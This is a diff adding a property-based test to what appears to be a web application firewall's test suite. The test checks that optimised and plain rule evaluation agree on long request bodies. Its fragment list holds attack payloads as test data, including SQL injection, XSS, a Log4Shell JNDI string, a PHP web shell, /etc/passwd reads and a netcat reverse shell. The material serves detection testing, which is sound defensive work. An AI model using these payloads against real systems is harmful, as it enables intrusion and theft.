@@ -232,3 +232,48 @@ def test_shipped_acls_same_verdict_with_and_without_the_plan(shipped_pairs, path
             b = plain.evaluate(HttpRequest("POST", uri, list(headers), body, "10.0.0.1"), now=1.0)
             assert (a.action, a.terminating_rule_id, a.labels, a.non_terminating) == (
                 b.action, b.terminating_rule_id, b.labels, b.non_terminating), uri
+
+
+# Bodies longer than the plan's memo limit (MEMO_MAX_TEXT) take the body path: every chain's form
+# computed once, one scan, each hit confirmed, detectors on their forms - the answer must be what
+# each rule computes on its own. Long prose (which passes the detectors' own prefilters) with
+# attack fragments at random places, as raw text, as a urlencoded form and inside JSON values.
+_PROSE = ("We walked along the river, and talked about the new release; it's 'fine' (mostly). "
+          "Select the shoes you like from the list, or order them by price. ")
+_FRAGMENTS = ["' OR '1'='1", "<script>alert(1)</script>", "; cat /etc/passwd", "../../etc/passwd",
+              "UNION SELECT password FROM users--", "<img src=x onerror=alert(1)>", "${jndi:ldap://a/b}",
+              "%3Cscript%3E", "&lt;svg onload=alert(1)&gt;", "\\x3cscript\\x3e", "{\"$where\": \"sleep(1)\"}",
+              "<?php system($_GET['c']); ?>", "| nc -e /bin/sh 10.0.0.1 4444", "1; DROP TABLE users",
+              "javascript:alert(document.cookie)", "C:\\Windows\\System32\\cmd.exe /c dir", "Ä\xe9\xa0\x00\x1c"]
+long_part = st.one_of(st.sampled_from(_FRAGMENTS), shipped_text,
+                      st.integers(1, 60).map(lambda n: (_PROSE * 40)[:n * 20]))
+long_text = st.lists(long_part, min_size=1, max_size=12).map("".join).map(
+    lambda text: (_PROSE * 100)[: max(0, 600 - len(text))] + text)
+
+
+def _long_body(text: str, shape: str) -> tuple[bytes, list[tuple[str, str]]]:
+    import json
+    import urllib.parse
+
+    if shape == "form":
+        half = len(text) // 2
+        body = urllib.parse.urlencode({"title": text[:40], "body": text[:half], "more": text[half:]})
+        return body.encode("latin-1", "replace"), [("Content-Type", "application/x-www-form-urlencoded")]
+    if shape == "json":
+        doc = {"title": text[:30], "tags": [text[:10], "x"], "body": text, "n": 7}
+        return json.dumps(doc).encode(), [("Content-Type", "application/json")]
+    return text.encode("latin-1", "replace"), [("Content-Type", "text/plain")]
+
+
+@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(text=long_text, shape=st.sampled_from(["raw", "form", "json"]), size=st.sampled_from([0, 1, 4]))
+def test_long_bodies_same_verdict_with_and_without_the_plan(shipped_pairs, acl_pairs, text: str, shape: str,  # type: ignore[no-untyped-def, type-arg]
+                                                            size: int) -> None:
+    text = text * size if size else text[:9000]  # up to past the 8 KB inspection limit
+    body, headers = _long_body(text, shape)
+    headers = [("Host", "app.example.com"), ("User-Agent", "Mozilla/5.0"), *headers]
+    for fast, plain in [*shipped_pairs, *acl_pairs]:
+        a = fast.evaluate(HttpRequest("POST", "/content/1", list(headers), body, "10.0.0.1"), now=1.0)
+        b = plain.evaluate(HttpRequest("POST", "/content/1", list(headers), body, "10.0.0.1"), now=1.0)
+        assert (a.action, a.terminating_rule_id, a.labels, a.non_terminating) == (
+            b.action, b.terminating_rule_id, b.labels, b.non_terminating), (shape, len(body))
